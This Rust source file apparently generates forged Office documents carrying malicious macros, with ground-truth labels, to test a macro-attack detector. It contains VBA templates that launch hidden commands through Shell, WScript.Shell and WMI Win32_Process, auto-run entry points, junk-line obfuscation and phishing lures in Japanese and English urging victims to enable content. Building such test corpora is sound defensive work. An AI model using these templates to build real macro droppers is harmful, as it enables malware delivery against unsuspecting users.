//! Macro projects shaped like the attacks: an entry point, a hidden string, a call that starts it.

use super::hide::{self, Style};
use super::script::{self, Shape};
use super::{Chance, Container, Forged, Module, Page, Project, Truth};
use crate::forge::ovba::Kind;
use anyhow::Result;

/// Calls that start a command, `{cmd}` its variable. The window is hidden by each that can.
const STARTS: [&str; 6] = [
    "Shell {cmd}, vbHide",
    "{x} = Shell({cmd}, 0)",
    "CreateObject(\"WScript.Shell\").Run {cmd}, 0, False",
    "Set {x} = GetObject(\"winmgmts:Win32_Process\")\n{x}.Create {cmd}, Null, Null, {y}",
    "Set {y} = GetObject(\"winmgmts:Win32_ProcessStartup\")\n{y}.ShowWindow = 0\n\
     Set {x} = GetObject(\"winmgmts:Win32_Process\")\n{x}.Create {cmd}, Null, {y}, {z}",
    "GetObject(\"winm\" & \"gmts:\" & \"Win32\" & \"_Process\").Create {cmd}, Null, Null, {x}",
];

/// A document whose macro would start a hidden command that would fetch from `urls`.
pub fn attack(
    container: Container,
    shape: Shape,
    style: Style,
    urls: &[String],
    chance: &mut Chance,
) -> Result<Forged> {
    let script = script::script(shape, urls, chance);
    let command = script::command(shape, &script, chance);
    let [procedure, variable, x, y, z] =
        [(); 5].map(|()| format!("{}{}", chance.identifier(), chance.below(100)));
    let start = *chance.pick(&STARTS);
    let call = start.replace("{cmd}", &variable).replace("{x}", &x).replace("{y}", &y).replace("{z}", &z);

    let (document_body, own_entry, entry_point) = entry(container, &procedure, chance);
    let hidden = hide::hide(style, &variable, &command, chance);
    let mut code: Vec<String> = hidden.head;
    code.extend(own_entry);
    code.push(format!("Public Sub {procedure}()"));
    code.push("On Error Resume Next".to_owned());
    for line in hidden.body {
        if chance.one_in(7) {
            code.push(junk(chance));
        }
        code.push(format!("    {line}"));
    }
    code.extend(call.lines().map(|line| format!("    {line}")));
    code.push("End Sub\n".to_owned());

    let module = Module::new(&chance.identifier(), Kind::Standard, &code.join("\n"));
    let mut modules = super::document_modules(container, &document_body);
    modules.push(module);
    let name = if container.is_word() { "Project" } else { "VBAProject" };
    let code_page = if chance.one_in(3) { 1_252 } else { 932 };
    let project = Project { name: name.to_owned(), code_page, modules };
    let bytes = super::pack(container, &lure(chance), &project, chance)?;
    let truth = Truth {
        verdict: "attack",
        shape: shape.name().to_owned(),
        style: Some(style),
        starts_by: Some(start.to_owned()),
        container,
        code_page,
        modules: project.modules,
        entry_point: Some(entry_point),
        command: Some(command),
        script: Some(script),
        urls: urls.to_vec(),
        checks: vec!["document.auto-run-macro", "document.starts-powershell"],
    };
    Ok(Forged { bytes, truth })
}

/// Body of the document module, lines for the standard module, and the name of the entry point.
fn entry(container: Container, procedure: &str, chance: &mut Chance) -> (String, Vec<String>, String) {
    let (event, automatic) =
        if container.is_word() { ("Document_Open", "AutoOpen") } else { ("Workbook_Open", "Auto_Open") };
    let call = *chance.pick(&["", "Call "]);
    if chance.one_in(3) {
        let lines = [&format!("Sub {automatic}()"), &format!("    {call}{procedure}"), "End Sub"];
        (String::new(), lines.map(str::to_owned).to_vec(), automatic.to_owned())
    } else {
        (format!("Private Sub {event}()\n    {call}{procedure}\nEnd Sub\n"), Vec::new(), event.to_owned())
    }
}

/// A line that does nothing.
fn junk(chance: &mut Chance) -> String {
    let name = chance.identifier();
    match chance.below(3) {
        0 => format!("    ' {} {} {}", name, chance.word(4, 9), chance.word(4, 9)),
        1 => format!("    {name} = {} * {} + {}", chance.below(99), chance.below(99), chance.below(999)),
        _ => format!(
            "    If {} > {} Then {name} = \"{}\"",
            chance.below(9),
            chance.between(10, 99),
            chance.word(4, 8)
        ),
    }
}

/// What the victim is told to do.
fn lure(chance: &mut Chance) -> Page {
    const LURES: [[&str; 2]; 3] = [
        [
            "この文書は以前のバージョンの Microsoft Office で作成されています。",
            "内容を表示するには、「編集を有効にする」をクリックし、次に「コンテンツの有効化」をクリックしてください。",
        ],
        ["この文書は保護されています。", "「コンテンツの有効化」をクリックすると内容が表示されます。"],
        [
            "This document is only available for desktop or laptop versions of Microsoft Office.",
            "Click Enable Editing, then click Enable Content.",
        ],
    ];
    Page { lines: chance.pick(&LURES).map(str::to_owned).to_vec() }
}
